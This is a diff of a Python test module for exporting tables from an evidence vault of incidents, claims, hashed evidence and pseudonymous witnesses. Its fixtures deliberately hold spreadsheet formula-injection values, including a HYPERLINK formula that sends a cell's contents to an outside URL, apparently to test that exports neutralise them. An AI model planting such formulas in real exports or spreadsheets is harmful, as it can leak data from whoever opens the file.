@@ -23,6 +23,7 @@ from vault.rules import tables
 from vault.rules.dictionary import TableName
 from vault.rules.exports import Table
 from vault.rules.items import Act
+from vault.sealing.words import new_pseudonym
 
 FORMULA = '=HYPERLINK("https://example.org?";A1)'
 CLAIMS = [
@@ -38,6 +39,7 @@ def filled(scene: Scene) -> tuple[Weighed, str]:
         event = {"title": FORMULA, "place": "-", "date": "2015", "vocabulary": "air-strike", "claims": CLAIMS}
         cases.add_incidents(uow, actor(V1), scene.case, [event], DAY)
     item = dossier.with_file(scene, b"footage", title=FORMULA)
+    dossier.with_file(scene, b"from a telephone", giver=new_pseudonym())
     dossier.go_on(scene, item, Act.AUTHENTICITY, dossier.GRADED)
     record(scene, undisputed(scene, who="@SUM(A1)", source="+1"))
     record(
@@ -56,8 +58,7 @@ def case(after: After) -> tuple[Scene, Weighed, str]:
 
 
 def take(scene: Scene, table: TableName, by: Person = V1) -> Taken:
-    with scene.writing() as uow:
-        return exchange.take(scene.vault, uow, actor(by), (scene.case, table), DAY)
+    return exchange.take(scene.vault, actor(by), (scene.case, table), DAY)
 
 
 def rows(scene: Scene, table: TableName) -> list[dict[str, Any]]:
@@ -71,7 +72,7 @@ def test_incidents_come_with_the_claims_in_question(case: tuple[Scene, Weighed, 
     assert (added["incident"], added["claims"]) == (FORMULA, "aircraft.number=2-3; aircraft.altitude")
 
 
-def test_evidence_comes_with_its_hash_and_without_whoever_gave_it(case: tuple[Scene, Weighed, str]) -> None:
+def test_evidence_comes_with_its_hash_but_for_what_a_witness_gave(case: tuple[Scene, Weighed, str]) -> None:
     scene, there, item = case
     found = {row["item"]: row for row in rows(scene, TableName.EVIDENCE)}
     assert found.keys() == {there.item, item}
